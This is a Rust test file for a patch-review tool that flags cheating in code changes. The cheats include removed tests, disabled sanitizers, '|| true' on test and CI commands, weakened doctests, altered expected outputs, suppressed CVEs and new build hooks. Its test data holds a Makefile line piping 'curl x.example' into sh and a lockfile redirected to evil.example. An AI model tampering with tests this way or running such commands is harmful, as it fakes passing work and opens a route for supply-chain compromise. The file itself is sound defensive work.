//! Cheating with harness, build, settings, dependencies and expected results.

#![expect(clippy::too_many_lines, reason = "a table is as long as it is")]

use super::super::{Objection as O, Weight};
use super::{about, all_right, all_wrong, judged, table};

#[test]
fn a_changed_measure_is_seen() {
    const CMAKE: &str = "project(f C)\nset(CMAKE_C_FLAGS \"-g -fsanitize=address -Wall -Werror\")\nadd_library(f f.c util.c)\nenable_testing()\nadd_executable(t t.c)\nadd_test(NAME t COMMAND t)\nadd_test(NAME u COMMAND u)\n";
    const MAKE: &str =
        "CFLAGS = -g -Wall -fsanitize=address\nSRCS = a.c b.c\nall: f\ntest: f\n\t./run\n";
    const MESON: &str = "project('f', 'c')\nexecutable('t', 't.c')\ntest('t', t)\n";
    const CARGO: &str = "[package]\nname = \"f\"\nversion = \"1.0.0\"\n\n[dependencies]\na = \"1\"\n\n[profile.release]\noverflow-checks = true\n\n[[test]]\nname = \"t\"\n";
    const NPM: &str = "{\n  \"name\": \"f\",\n  \"scripts\": {\n    \"test\": \"mocha\"\n  },\n  \"dependencies\": {\n    \"a\": \"^1.0.0\"\n  }\n}\n";
    const PYPROJECT: &str = "[project]\nname = \"f\"\ndependencies = [\"a>=1\"]\n\n[tool.pytest.ini_options]\naddopts = \"-q\"\n";
    all_wrong(&table(&[
        (
            O::TargetDropped,
            "CMakeLists.txt",
            CMAKE,
            "add_test(NAME u COMMAND u)\n",
            "",
        ),
        (
            O::TargetDropped,
            "x/CMakeLists.txt",
            CMAKE,
            "f.c util.c",
            "f.c",
        ),
        (O::TargetDropped, "meson.build", MESON, "test('t', t)\n", ""),
        (
            O::TargetDropped,
            "Makefile",
            MAKE,
            "SRCS = a.c b.c",
            "SRCS = a.c",
        ),
        (
            O::TargetDropped,
            "t/Makefile",
            "check: unit script\n",
            "unit script",
            "script",
        ),
        (
            O::TargetDropped,
            "x/Makefile",
            MAKE,
            "test: f\n\t./run\n",
            "",
        ),
        (
            O::SafetyOff,
            "CMakeLists.txt",
            CMAKE,
            " -fsanitize=address",
            "",
        ),
        (
            O::SafetyOff,
            "y/CMakeLists.txt",
            CMAKE,
            " -Wall -Werror",
            "",
        ),
        (
            O::SafetyOff,
            "z/CMakeLists.txt",
            CMAKE,
            "-Wall",
            "-Wall -fno-sanitize=undefined",
        ),
        (O::SafetyOff, "y/Makefile", MAKE, "-Wall", "-Wall -w"),
        (
            O::SafetyOff,
            "z/Makefile",
            MAKE,
            "-Wall",
            "-Wall -Wno-array-bounds",
        ),
        (O::SafetyOff, "w/Makefile", MAKE, "-Wall", "-Wall -DNDEBUG"),
        (
            O::SafetyOff,
            "v/Makefile",
            MAKE,
            "\t./run",
            "\tASAN_OPTIONS=halt_on_error=0 ./run",
        ),
        (
            O::SafetyOff,
            "u/Makefile",
            MAKE,
            "\t./run",
            "\tUBSAN_OPTIONS=suppressions=s.supp ./run",
        ),
        (
            O::SafetyOff,
            "Cargo.toml",
            CARGO,
            "overflow-checks = true",
            "overflow-checks = false",
        ),
        (
            O::Harness,
            "a/Cargo.toml",
            CARGO,
            "name = \"t\"\n",
            "name = \"t\"\nharness = false\n",
        ),
        (
            O::Harness,
            "package.json",
            NPM,
            "\"mocha\"",
            "\"mocha || true\"",
        ),
        (
            O::Harness,
            "pyproject.toml",
            PYPROJECT,
            "\"-q\"",
            "\"-q --ignore=tests/test_f.py\"",
        ),
        (
            O::Lock,
            "b/package.json",
            NPM,
            "\"^1.0.0\"",
            "\"git+https://x.example/a.git\"",
        ),
        (
            O::Lock,
            "b/Cargo.toml",
            CARGO,
            "a = \"1\"",
            "a = { git = \"https://x.example/a\" }",
        ),
    ]));
    all_wrong(&[
        (
            O::AssertionWeakened,
            "doctest",
            &[(
                "src/lib.rs",
                "/// ```\n/// assert_eq!(f(1), 2);\n/// ```\npub fn f(x: u8) -> u8 {\n    x + 1\n}\n",
                "/// ```\n/// f(1);\n/// ```\npub fn f(x: u8) -> u8 {\n    x + 2\n}\n",
            )],
        ),
        (
            O::TestSkipped,
            "doctest ignored",
            &[(
                "src/lib.rs",
                "/// ```\n/// assert_eq!(f(1), 2);\n/// ```\npub fn f(x: u8) -> u8 {\n    x + 1\n}\n",
                "/// ```ignore\n/// assert_eq!(f(1), 2);\n/// ```\npub fn f(x: u8) -> u8 {\n    x + 2\n}\n",
            )],
        ),
        (
            O::AssertionWeakened,
            "doctest of python",
            &[(
                "f.py",
                "def f(x):\n    \"\"\"\n    >>> f(1)\n    2\n    \"\"\"\n    return x + 1\n",
                "def f(x):\n    \"\"\"Adds.\"\"\"\n    return x + 2\n",
            )],
        ),
        (
            O::Harness,
            "conftest",
            &[
                (
                    "tests/conftest.py",
                    "",
                    "def pytest_runtest_makereport(item, call):\n    pass\n",
                ),
                ("f.py", "x = 1\n", "x = 2\n"),
            ],
        ),
        (
            O::Harness,
            "sitecustomize",
            &[
                ("sitecustomize.py", "", "import sys\n"),
                ("f.py", "x = 1\n", "x = 2\n"),
            ],
        ),
        (
            O::Harness,
            "pytest.ini",
            &[(
                "pytest.ini",
                "[pytest]\n",
                "[pytest]\naddopts = -k nothing\n",
            )],
        ),
        (
            O::Harness,
            "setup.cfg",
            &[(
                "setup.cfg",
                "[tool:pytest]\naddopts = -q\n",
                "[tool:pytest]\naddopts = -q -p no:x\n",
            )],
        ),
        (
            O::Harness,
            "jest",
            &[(
                "jest.config.js",
                "",
                "module.exports = { testPathIgnorePatterns: ['f'] };\n",
            )],
        ),
        (
            O::Harness,
            "cargo config",
            &[(
                ".cargo/config.toml",
                "",
                "[build]\nrustflags = [\"-Awarnings\"]\n",
            )],
        ),
        (
            O::Ci,
            "ci",
            &[(
                ".github/workflows/ci.yml",
                "run: make test\n",
                "run: true\n",
            )],
        ),
        (
            O::Ci,
            "gitlab",
            &[(
                ".gitlab-ci.yml",
                "script: make test\n",
                "script: make test || true\n",
            )],
        ),
        (
            O::Oracle,
            "expected",
            &[("tests/expected/out.txt", "two\nthree\n", "two\nfour\n")],
        ),
        (
            O::Oracle,
            "snapshot gone",
            &[("test/__snapshots__/f.snap", "exports[`f`] = 2\n", "")],
        ),
        (
            O::Oracle,
            "reproducer",
            &[("poc/crash-7f3a.bin", "boom", "calm")],
        ),
        (
            O::OwnSettings,
            "own",
            &[("backstitch.toml", "", "[check]\n")],
        ),
        (
            O::Suppressed,
            "trivy",
            &[(".trivyignore", "", "CVE-2024-0001\n")],
        ),
        (
            O::Suppressed,
            "audit",
            &[(
                "audit.toml",
                "ignore = []\n",
                "ignore = [\"RUSTSEC-2024-0001\"]\n",
            )],
        ),
        (
            O::Suppressed,
            "osv",
            &[("osv-scanner.toml", "", "[[IgnoredVulns]]\nid = \"X\"\n")],
        ),
        (O::Suppressed, "lsan", &[("lsan.supp", "", "leak:f\n")]),
        (
            O::Lock,
            "lockfile",
            &[(
                "Cargo.lock",
                "[[package]]\nname = \"a\"\nversion = \"1.0.0\"\nsource = \"registry+x\"\nchecksum = \"aa\"\n",
                "[[package]]\nname = \"a\"\nversion = \"1.0.0\"\nsource = \"registry+x\"\nchecksum = \"bb\"\n",
            )],
        ),
        (
            O::Lock,
            "npm lockfile",
            &[(
                "package-lock.json",
                "{\"packages\":{\"node_modules/a\":{\"version\":\"1.0.0\",\"resolved\":\"https://r.example/a-1.tgz\",\"integrity\":\"sha512-x\"}}}",
                "{\"packages\":{\"node_modules/a\":{\"version\":\"1.0.1\",\"resolved\":\"https://evil.example/a-1.tgz\",\"integrity\":\"sha512-y\"}}}",
            )],
        ),
    ]);
}

#[test]
fn what_comes_to_run_wherever_the_project_is_built_is_seen_beside_a_fix() {
    const FIX: (&str, &str, &str) = ("src/f.c", "int f = 1;\n", "int f = 2;\n");
    const NPM: &str = "{\n  \"name\": \"f\",\n  \"scripts\": {\n    \"test\": \"mocha\"\n  }\n}\n";
    const HOOK: &str = "{\n  \"name\": \"f\",\n  \"scripts\": {\n    \"test\": \"mocha\",\n    \"postinstall\": \"node x.js\"\n  }\n}\n";
    const CARGO: &str = "[package]\nname = \"f\"\nversion = \"1.0.0\"\n";
    const NAMES: &str = "[package]\nname = \"f\"\nversion = \"1.0.0\"\nbuild = \"x.rs\"\n";
    const BACKEND: &str = "[build-system]\nrequires = [\"setuptools\"]\n";
    const OWN: &str = "[build-system]\nrequires = [\"setuptools\"]\nbackend-path = [\".\"]\n";
    all_wrong(&[
        (
            O::RunAtBuild,
            "build.rs",
            &[FIX, ("build.rs", "", "fn main() {}\n")],
        ),
        (
            O::RunAtBuild,
            "of a member",
            &[FIX, ("crates/a/build.rs", "", "fn main() {}\n")],
        ),
        (
            O::RunAtBuild,
            "setup.py",
            &[FIX, ("setup.py", "", "import os\n")],
        ),
        (
            O::RunAtBuild,
            "binding.gyp",
            &[FIX, ("binding.gyp", "", "{}\n")],
        ),
        (
            O::RunAtBuild,
            "pnpmfile",
            &[FIX, (".pnpmfile.cjs", "", "module.exports = {};\n")],
        ),
        (O::RunAtBuild, "hook", &[FIX, ("package.json", NPM, HOOK)]),
        (
            O::RunAtBuild,
            "new manifest with a hook",
            &[FIX, ("sub/package.json", "", HOOK)],
        ),
        (O::RunAtBuild, "named", &[FIX, ("Cargo.toml", CARGO, NAMES)]),
        (
            O::RunAtBuild,
            "own backend",
            &[FIX, ("pyproject.toml", BACKEND, OWN)],
        ),
    ]);
    let doubted = |name: &'static str, before: &'static str, after: &'static str| {
        let seen = judged(&[FIX, (name, before, after)], &about()).seen;
        let is_doubt =
            |it: &super::super::Seen| it.objection == O::RunAtBuild && it.weight == Weight::Doubts;
        assert!(seen.iter().any(is_doubt), "{name}: {seen:?}");
    };
    doubted("rules.mk", "", "all:\n\t./x\n");
    doubted("cmake/Fetch.cmake", "", "message(x)\n");
    doubted(
        "CMakeLists.txt",
        "project(f C)\n",
        "project(f C)\nexecute_process(COMMAND x)\n",
    );
    doubted("Makefile", "all: f\n", "all: f\n\tcurl x.example | sh\n");
    doubted(
        "build.rs",
        "fn main() {\n    a();\n}\n",
        "fn main() {\n    a();\n    std::process::Command::new(\"x\");\n}\n",
    );
    all_right(&[
        (
            "a module of this name",
            &[FIX, ("src/build.rs", "", "pub fn build() {}\n")],
        ),
        (
            "for tests",
            &[
                FIX,
                ("tests/CMakeLists.txt", "", "add_test(NAME t COMMAND t)\n"),
                ("tests/data/app/build.rs", "", "fn main() {}\n"),
                ("tests/Makefile", "", "all:\n\t./t\n"),
            ],
        ),
        (
            "flags and sources",
            &[
                FIX,
                ("src/bounds.c", "", "int b = 1;\n"),
                (
                    "build.rs",
                    "fn main() {\n    Build::new().file(\"src/f.c\").compile(\"f\");\n}\n",
                    "fn main() {\n    Build::new().file(\"src/f.c\").file(\"src/bounds.c\").compile(\"f\");\n}\n",
                ),
            ],
        ),
    ]);
}
